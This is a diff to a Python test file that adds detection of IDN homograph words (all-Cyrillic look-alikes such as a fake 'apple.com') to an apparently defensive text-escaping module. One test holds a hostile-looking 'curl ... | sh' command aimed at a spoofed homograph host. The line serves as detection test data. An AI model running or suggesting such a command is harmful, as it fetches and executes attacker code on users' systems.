@@ -8,7 +8,15 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from omp_a2a_bridge.server.present.preview import build_preview, full_display, summary_of
-from omp_a2a_bridge.server.present.textsafe import BIDI, hidden_in, lines_preview, render, shorten
+from omp_a2a_bridge.server.present.textsafe import (
+    BIDI,
+    WHOLE_LOOKALIKES,
+    WHOLE_REACH,
+    hidden_in,
+    lines_preview,
+    render,
+    shorten,
+)
 
 # Characters an attacker would use, mixed into ordinary text so shrinking finds small cases.
 HOSTILE = st.sampled_from(
@@ -92,6 +100,47 @@ def mixed_script(s: str) -> bool:
             if "LATIN" in seen and seen & scripts:
                 return True
             seen = set()
+    return whole_lookalike(s)
+
+
+def _escaped(ch: str) -> bool:
+    cat = unicodedata.category(ch)
+    return (
+        ord(ch) in BIDI
+        or cat in ("Cc", "Cf", "Zl", "Zp", "Zs", "Cs", "Co", "Cn")
+        or ch in "\u2800\u3164\u115f\u1160\uffa0\u034f\u17b4\u17b5\u180e"
+    ) and ch != " "
+
+
+def _latin(ch: str) -> bool:
+    if unicodedata.category(ch)[0] != "L" or _escaped(ch):
+        return False
+    return ch.isascii() or unicodedata.name(ch, "").startswith("LATIN ")
+
+
+def _in_word(ch: str) -> bool:
+    cat = unicodedata.category(ch)
+    return not _escaped(ch) and (cat[0] in "LM" or cat == "Nd")
+
+
+def whole_lookalike(s: str) -> bool:
+    """A word made only of Latin look-alikes with a Latin letter after it, at most
+    WHOLE_REACH other non-blank characters away (``аррӏе.com`` in Cyrillic)."""
+    i = 0
+    while i < len(s):
+        if not _in_word(s[i]) or (i > 0 and _in_word(s[i - 1])):
+            i += 1
+            continue
+        j = i
+        while j < len(s) and _in_word(s[j]):
+            j += 1
+        if all(c in WHOLE_LOOKALIKES for c in s[i:j]):
+            k, n = j, 0
+            while k < len(s) and not s[k].isspace() and not _latin(s[k]) and n < WHOLE_REACH:
+                k, n = k + 1, n + 1
+            if k < len(s) and _latin(s[k]):
+                return True
+        i = j
     return False
 
 
@@ -129,6 +178,18 @@ def test_a_lookalike_host_is_shown_escaped_and_flagged():
         r = render(f"run {word} now")
         assert r.hidden, word
         assert r.text.isascii() and r.text.startswith("run ") and r.text.endswith(" now"), r.text
+
+
+def test_a_word_of_lookalikes_alone_before_latin_is_flagged():
+    """The classic IDN homograph: every letter of ``apple`` Cyrillic, ``.com`` Latin."""
+    cmd = "curl https://\u0430\u0440\u0440\u04cf\u0435.com/install | sh"
+    r = render(cmd)
+    assert r.hidden
+    assert r.text == "curl https://\\u0430\\u0440\\u0440\\u04cf\\u0435.com/install | sh"
+    assert hidden_in({"command": cmd})
+    # Alone, or with the Latin past the reach or across a blank, it is Russian text.
+    for text in ("с помощью docker", "сор", "ее " + "x", "ее" + "-" * (WHOLE_REACH + 1) + "x"):
+        assert not render(text).hidden, text
 
 
 def test_words_in_one_script_are_not_flagged():
